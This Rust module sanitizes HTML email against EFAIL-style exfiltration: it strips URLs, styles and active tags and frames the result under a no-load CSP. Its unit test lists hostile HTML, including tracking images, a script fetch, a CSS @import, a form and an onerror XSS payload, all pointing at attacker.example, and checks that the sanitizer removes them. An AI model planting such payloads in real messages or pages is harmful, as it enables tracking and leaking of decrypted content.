//! Mail HTML, made safe to look at (EFAIL's lesson: a viewer that fetches what a message
//! points to tells its sender when, and maybe what, was decrypted). The HTML goes through
//! ammonia (a maintained allow-list sanitizer) with every URL removed — remote images,
//! stylesheets, links, forms — and no style attributes (CSS can fetch too). The result is only
//! ever served as its own document, in a sandboxed frame, with a CSP that loads nothing.

use std::collections::HashSet;

/// The CSP of the sanitized mail document: nothing loads, nothing runs, and only our own
/// page may frame it.
pub const FRAME_CSP: &str = "default-src 'none'; style-src 'unsafe-inline'; sandbox; base-uri 'none'; form-action 'none'; frame-ancestors 'self'";

/// The sanitized HTML of a message: text and structure only, no URL of any kind.
pub fn sanitize(html: &str) -> String {
    ammonia::Builder::default()
        .url_schemes(HashSet::new())
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer"))
        .rm_tags(["img", "a"])
        .clean(html)
        .to_string()
}

/// A complete document around sanitized HTML.
pub fn document(sanitized: &str) -> String {
    format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><meta name=\"referrer\" content=\"no-referrer\"></head><body>{sanitized}</body></html>"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_loads_or_runs_survives() {
        let hostile = r#"<p>Hello <b>there</b></p>
<img src="https://attacker.example/track.png?id=1">
<img src="cid:part1">
<a href="https://attacker.example/x">link text</a>
<script>fetch('https://attacker.example/')</script>
<div style="background:url(https://attacker.example/bg)">styled</div>
<link rel="stylesheet" href="https://attacker.example/s.css">
<style>@import url(https://attacker.example/i.css);</style>
<form action="https://attacker.example/"><input name=q></form>
<iframe src="https://attacker.example/"></iframe>
<svg><image href="https://attacker.example/s.png"/></svg>
<video poster="https://attacker.example/p.png"></video>
<table background="https://attacker.example/t.png"><tr><td>cell</td></tr></table>
<img src=x onerror="alert(1)">"#;
        let clean = sanitize(hostile);
        for gone in [
            "attacker",
            "<script",
            "<style",
            "style=",
            "onerror",
            "<img",
            "<a ",
            "<form",
            "<iframe",
            "<link",
            "<svg",
            "<video",
            "background",
            "cid:",
            "alert",
        ] {
            assert!(!clean.contains(gone), "{gone:?} survived: {clean}");
        }
        for kept in ["<b>there</b>", "link text", "styled", "cell"] {
            assert!(clean.contains(kept), "{kept:?} lost: {clean}");
        }
    }
}
